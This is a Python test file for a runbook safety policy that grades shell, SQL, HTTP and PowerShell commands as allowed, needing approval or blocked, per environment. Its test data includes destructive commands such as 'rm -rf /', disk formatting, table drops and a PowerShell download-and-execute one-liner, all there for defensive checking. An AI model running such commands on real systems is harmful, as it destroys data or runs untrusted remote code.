"""What the policy lets through, what it asks about, and how that depends on the environment."""

from __future__ import annotations

import pytest

from afield.runbooks.inputs import Bound
from afield.runbooks.model import CommandWork, Environment, HttpWork, QueryWork, Shell
from afield.runbooks.patterns import COMMANDS, POWERSHELL, STATEMENTS, TEXTS
from afield.runbooks.policy import Verdict, judge, judge_query, judge_work

E, V = Environment, Verdict

HARMLESS = [
    "",
    "ls -la /",
    "df -h / | awk 'NR==2 {print $5}'",
    "du -sh /var/log/* | sort -h | tail -5",
    "rm -f /var/log/app/*.gz",
    "rm -f -- /var/lib/app/backup/old.tar",
    "find /var/log/app -name '*.gz' -mtime +7 -delete",
    "find /var/log/app -name '*.log' -exec gzip {} +",
    "find / -name '*.conf' -type f",
    "find /var/log/app -name '*.gz' -print0 | xargs -0 rm -f",
    "echo 'rm -rf /'",
    'git commit -m "remove rm -rf / from the docs"',
    "grep -r 'DROP TABLE' src",
    "printf '%s\\n' \"shutdown at noon\"",
    "cat > notes.txt <<'EOF'\nrm -rf /\nshutdown now\nEOF",
    "# rm -rf /\nls",
    "echo x > /dev/null 2>&1",
    "echo x >&2",
    "make 2> /dev/stderr | tee build.log",
    "systemctl restart app",
    "systemctl status sshd",
    "service app restart",
    'kill -TERM "$(cat run/app.pid)"',
    "kill -0 1234",
    "pkill -f app-worker",
    "mkdir -p /var/lib/app/x && cp a b && mv a b && ln -s a b",
    "chmod 640 /var/lib/app/key.pem",
    "chown -R app:app /var/lib/app/data",
    "tar -czf backup.tgz -C /var/lib/app .",
    "curl -fsS http://localhost/health",
    "curl -fsS http://localhost/health | python3 -m json.tool",
    "curl -fsS http://localhost/health | grep -q ok",
    "curl -s http://localhost/x -o file",
    "echo ls | bash",
    "bash script.sh",
    "bash -c 'ls -l'",
    "psql -c 'select count(*) from users'",
    'psql -c "update users set active = false where id = 1"',
    "psql -c 'delete from users where id = 1'",
    "psql -c 'create table dropped (id int)'",
    "redis-cli GET key",
    "kubectl get pods -A",
    "kubectl rollout restart deployment/web",
    "docker ps --format '{{.Names}}'",
    "docker restart web",
    "git status && git pull --ff-only",
    "az vm show -n web",
    "aws s3 ls",
    "iptables -L -n",
    "fdisk -l",
    "crontab -l",
    "dd if=/dev/zero of=/var/lib/app/pad bs=1M count=1",
    "openssl x509 -in cert.pem -noout -enddate",
    "[ -f /etc/app.conf ] && [[ $x == *.gz ]]",
    "python3 -c 'print(1)'",
    "python3 manage.py execute",
    "awk '{print $1}' file",
    'for f in /var/log/app/*.log; do gzip "$f"; done',
    'x=$(date +%s); echo "$x" > /var/lib/app/stamp',
    'while read -r line; do echo "$line"; done < file',
    "case $1 in start) echo start;; *) echo usage;; esac",
    'set -euo pipefail\ntrap \'rm -f "$tmp"\' EXIT\ntmp=$(mktemp)\ncat "$tmp"',
    '"$JAVA_HOME/bin/java" -version',
    "exec 3> /var/lib/app/lock; flock -n 3",
    "shutdown -c",
    "apt-get install -y jq",
    "sudo -n systemctl restart app",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_it_stays_ok_in_production(command: str) -> None:
    assert judge(command, E.PROD).matches == ()


@pytest.mark.parametrize(
    ("command", "dev", "staging", "prod"),
    [
        ("rm -rf /", V.BLOCKED, V.BLOCKED, V.BLOCKED),
        ("rm -rf /opt", V.NEEDS_APPROVAL, V.BLOCKED, V.BLOCKED),
        ("rm -rf /var/lib", V.NEEDS_APPROVAL, V.NEEDS_APPROVAL, V.BLOCKED),
        ("rm -rf /var/lib/app/cache", V.OK, V.OK, V.NEEDS_APPROVAL),
        ("rm -rf /var/log/app/*.gz", V.OK, V.OK, V.NEEDS_APPROVAL),
        ("rm -f /var/log/app/*.gz", V.OK, V.OK, V.OK),
        ("rm -f /etc/passwd", V.NEEDS_APPROVAL, V.BLOCKED, V.BLOCKED),
        ("rm -rf /tmp/build", V.OK, V.OK, V.NEEDS_APPROVAL),
        ("rm -rf build", V.OK, V.OK, V.NEEDS_APPROVAL),
        ("rm -rf .", V.NEEDS_APPROVAL, V.NEEDS_APPROVAL, V.NEEDS_APPROVAL),
        ("reboot", V.NEEDS_APPROVAL, V.NEEDS_APPROVAL, V.NEEDS_APPROVAL),
        ("git reset --hard", V.OK, V.NEEDS_APPROVAL, V.NEEDS_APPROVAL),
        ("mkfs.xfs /dev/sdb", V.NEEDS_APPROVAL, V.BLOCKED, V.BLOCKED),
    ],
)
def test_environments_differ(command: str, dev: Verdict, staging: Verdict, prod: Verdict) -> None:
    assert [judge(command, env).verdict for env in E] == [dev, staging, prod]


def test_the_strictest_match_decides_and_comes_first() -> None:
    judgement = judge("reboot; rm -rf /", E.PROD)
    assert judgement.verdict is V.BLOCKED
    assert judgement.matches[0].pattern == "rm_everything"
    assert {match.command for match in judgement.matches} == {"rm -rf /", "reboot"}


def test_known_variables_are_written_out() -> None:
    command = 'rm -rf "$INPUT_FOLDER"'
    assert judge(command, E.DEV).verdict is V.NEEDS_APPROVAL
    assert judge(command, E.DEV, known={"INPUT_FOLDER": "/srv/app/cache"}).verdict is V.OK
    assert judge(command, E.DEV, known={"INPUT_FOLDER": "/"}).verdict is V.BLOCKED


def test_work_is_judged_with_its_values() -> None:
    work = CommandWork(command="rm -rf {{ folder }}")
    assert judge_work(work, E.DEV, Bound({"folder": "/srv/app/cache"})).verdict is V.OK
    assert judge_work(work, E.DEV, Bound({"folder": "/"})).verdict is V.BLOCKED
    assert judge_work(HttpWork(method="DELETE", url="/x"), E.PROD).verdict is V.NEEDS_APPROVAL
    assert judge_work(HttpWork(url="/x"), E.PROD).verdict is V.OK
    assert judge_work(QueryWork(query="drop table x"), E.PROD).verdict is V.BLOCKED


@pytest.mark.parametrize(
    ("statements", "verdict"),
    [
        ("select 1", V.OK),
        ("select 'drop table x'", V.OK),
        ("-- drop table x\nselect 1", V.OK),
        ("update t set a = 1 where b = 2", V.OK),
        ("delete from t where id = %(id)s;", V.OK),
        ("update t set a = 1", V.NEEDS_APPROVAL),
        ("delete\nfrom t", V.NEEDS_APPROVAL),
        ("select 1; DROP /* x */ TABLE t", V.BLOCKED),
        ("truncate t", V.BLOCKED),
    ],
)
def test_queries(statements: str, verdict: Verdict) -> None:
    assert judge_query(statements, E.PROD).verdict is verdict


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("Get-Service app | Restart-Service", V.OK),
        ("Remove-Item C:\\app\\log.txt", V.OK),
        ("Remove-Item -Recurse C:\\app\\logs", V.NEEDS_APPROVAL),
        ("Remove-Item C:\\ -Recurse -Force", V.BLOCKED),
        ("iex (New-Object Net.WebClient).DownloadString('http://host/x')", V.NEEDS_APPROVAL),
        ("Format-Volume -DriveLetter D", V.BLOCKED),
        ("Restart-Computer -Force", V.NEEDS_APPROVAL),
    ],
)
def test_powershell(command: str, verdict: Verdict) -> None:
    assert judge(command, E.PROD, shell=Shell.POWERSHELL).verdict is verdict


def test_patterns_are_told_apart_and_never_milder_in_production() -> None:
    rank = [V.OK, V.NEEDS_APPROVAL, V.BLOCKED].index
    for group in (COMMANDS, TEXTS, STATEMENTS, POWERSHELL):
        assert len({pattern.id for pattern in group}) == len(group)
        for pattern in group:
            assert rank(pattern.dev) <= rank(pattern.staging) <= rank(pattern.prod), pattern.id
            assert pattern.why.endswith(".")
